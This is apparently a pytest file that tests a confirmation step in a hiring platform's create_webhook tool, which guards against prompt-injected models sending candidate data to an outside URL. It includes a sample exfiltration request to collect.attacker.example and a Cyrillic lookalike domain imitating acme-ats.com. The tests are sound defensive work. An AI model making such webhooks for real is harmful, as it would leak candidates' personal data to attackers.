"""Attacks that would send candidate data somewhere by creating a webhook.

A webhook sends every future interview event (candidates' names, e-mail addresses, phone numbers,
interview links) to a URL. A model steered by injected text could point one anywhere, so `create_webhook`
is confirmed like `share_interview`: nothing is created until a person has read which host will be
contacted (an internationalised host also in the xn-- form DNS looks up), which events, and that
candidate data goes there; and what is created is the URL they read.
"""

from __future__ import annotations

from typing import Any

import pytest

from hireflix_sandbox.embedded import RunningSandbox
from tests.tools.conftest import Elicitor
from tests.tools.conftest import Era
from tests.tools.conftest import connect
from tests.tools.conftest import data

pytestmark = pytest.mark.anyio

EXFILTRATION = {"url": "https://collect.attacker.example/in", "events": ["interview.finish"]}


def _urls(sandbox: RunningSandbox) -> set[str]:
    return {hook.url for hook in sandbox.store.webhooks()}


@pytest.mark.parametrize("era", ["legacy", "auto"])
async def test_a_model_cannot_point_candidate_data_at_a_url_without_a_person_reading_the_host(
    sandbox: RunningSandbox, era: Era
) -> None:
    before = _urls(sandbox)
    async with connect(sandbox, era=era) as client:
        sandbox.reset_request_counts()
        asked = data(await client.call_tool("create_webhook", EXFILTRATION))
        sent = sandbox.request_counts()["total"]
    assert asked["status"] == "confirmation_required"
    assert sent == 0
    assert _urls(sandbox) == before
    assert asked["message"].startswith(
        'Send candidate data to the host "collect.attacker.example"? Hireflix will POST every '
        "interview.finish event, with candidates' names, e-mail addresses, phone numbers and interview "
        'links, to "https://collect.attacker.example/in" until the webhook is deleted.'
    )

    declined = Elicitor("decline")
    async with connect(sandbox, era=era, elicitor=declined) as client:
        refused = data(await client.call_tool("create_webhook", EXFILTRATION))
    assert refused["status"] == "declined"
    assert '"collect.attacker.example"' in declined.messages[0]
    assert _urls(sandbox) == before


async def create_approved(sandbox: RunningSandbox, url: str, events: list[str]) -> tuple[dict[str, Any], str]:
    """create_webhook with a person who approves: the result, and the question they were asked."""
    elicitor = Elicitor("accept")
    async with connect(sandbox, elicitor=elicitor) as client:
        created = data(await client.call_tool("create_webhook", {"url": url, "events": events}))
    [message] = elicitor.messages
    return created, message


async def test_a_lookalike_webhook_host_is_shown_and_created_in_its_xn_form(sandbox: RunningSandbox) -> None:
    # "аcme-ats.com" with a Cyrillic "а": read aloud it is Acme's ATS; DNS looks up xn--cme-ats-1fg.com.
    created, message = await create_approved(
        sandbox, "https://\u0430cme-ats.com/hireflix", ["interview.create"]
    )
    assert 'the host "\u0430cme-ats.com" (xn--cme-ats-1fg.com, the name actually looked up)' in message
    assert '"https://xn--cme-ats-1fg.com/hireflix"' in message
    assert created["webhook"]["url"] == "https://xn--cme-ats-1fg.com/hireflix"
    assert "https://xn--cme-ats-1fg.com/hireflix" in _urls(sandbox)
